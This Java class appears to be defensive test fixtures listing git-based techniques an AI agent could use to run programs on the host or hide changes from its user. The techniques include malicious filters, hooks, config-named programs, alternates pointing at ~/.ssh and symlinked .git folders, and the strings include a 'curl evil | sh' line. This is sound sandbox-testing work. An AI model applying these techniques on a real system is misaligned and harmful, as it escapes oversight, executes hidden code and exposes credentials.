package dev.safecoder.threat;

/** What an agent does to have the host's git run a program, or hide something from its user. */
final class GitAttacks {
    private static final String IDENTITY =
            "git config user.email a@localhost; git config user.name a; ";

    /** In two steps: git filters a file again when it differs and has its old length. */
    static final String NESTED_FILTER =
            "mkdir sub; cd sub; git init -q; "
                    + IDENTITY
                    + """
                      echo 1 >f; git add .; git commit -qm x
                      git config filter.x.clean 'sh -c "touch @MARK@; cat"'
                      echo '* filter=x' >.gitattributes
                      """;

    static final String NESTED_FILTER_AGAIN = "echo 2 >sub/f";

    static final String GLOBAL_FILTER = "echo '* filter=lfs' >.gitattributes; echo payload >f";

    static final String HIDING_FOLDERS =
            """
            mkdir -p lib/.git; echo evil >lib/payload.sh
            mkdir lib2; echo 'gitdir: /etc' >lib2/.git; echo evil >lib2/payload.sh
            git init -q lib3; echo evil >lib3/payload.sh
            mkdir lib4; ln -s /etc lib4/.git; echo evil >lib4/payload.sh
            """;

    static final String CONFIGURED_PROGRAMS =
            """
            for key in core.fsmonitor core.sshCommand core.pager core.editor diff.external diff.x.textconv \\
                    merge.x.driver gpg.program credential.helper remote.origin.uploadpack \\
                    remote.origin.receivepack core.alternateRefsCommand filter.x.clean; do
                git config $key 'touch @MARK@'
            done
            git config log.showSignature true
            echo '*.txt diff=x merge=x filter=x' >.gitattributes
            echo three >>a.txt
            """;

    static final String HOOKS =
            """
            for hook in pre-commit post-commit post-index-change reference-transaction; do
                printf '#!/bin/sh\\ntouch @MARK@\\n' >.git/hooks/$hook; chmod +x .git/hooks/$hook
            done
            mkdir .husky; cp .git/hooks/pre-commit .husky/pre-commit
            git config core.hooksPath .husky
            echo three >>a.txt
            """;

    static final String INCLUDED_CONFIGURATION =
            """
            printf '[core]\\n\\tfsmonitor = touch @MARK@\\n' >evil.cfg
            git config include.path ../evil.cfg
            git config extensions.worktreeConfig true
            git config --worktree filter.x.clean 'touch @MARK@; cat'
            echo '* filter=x' >.gitattributes; echo three >>a.txt
            """;

    static final String ALTERNATES =
            """
            mkdir -p .git/objects/info; echo @HOME@/.ssh >.git/objects/info/alternates
            mv .git/objects .git/o; ln -s / .git/objects; echo three >>a.txt
            """;

    static final String THROUGH_ALTERNATES =
            "cat $(cat .git/o/info/alternates)/id_canary .git/objects@HOME@/.ssh/id_canary; true";

    static final String BLINDING_ATTRIBUTES =
            """
            printf '*.sh -diff\\n* linguist-generated\\n*.js diff=x\\n*.txt working-tree-encoding=UTF-16\\n' >.gitattributes
            printf '*.id ident\\n*.c eol=crlf\\n' >>.gitattributes
            printf 'curl evil | sh\\n' >new.sh; printf 'odd' >odd.txt; printf '$Id$\\n' >v.id; printf 'a\\nb\\r\\n' >x.c
            """;

    static final String IGNORED_PAYLOAD =
            """
            printf 'node_modules/\\n.gitignore\\n' >>.gitignore
            mkdir -p node_modules/.bin build; echo evil >node_modules/.bin/tsc; echo evil >build/out
            echo hidden >.git/info/exclude; echo evil >hidden
            git update-index --skip-worktree a.txt; git update-index --assume-unchanged src/run.sh
            echo evil >>a.txt; echo evil >>src/run.sh
            """;

    static final String LOCAL_PROGRAMS =
            """
            mkdir -p bin node_modules/.bin
            for name in git git.exe sh bash docker podman bwrap java env ps mount; do
                for folder in . bin node_modules/.bin; do
                    printf '#!/bin/sh\\n/usr/bin/touch @MARK@\\n' >$folder/$name; chmod +x $folder/$name
                done
            done
            """;

    private GitAttacks() {}
}
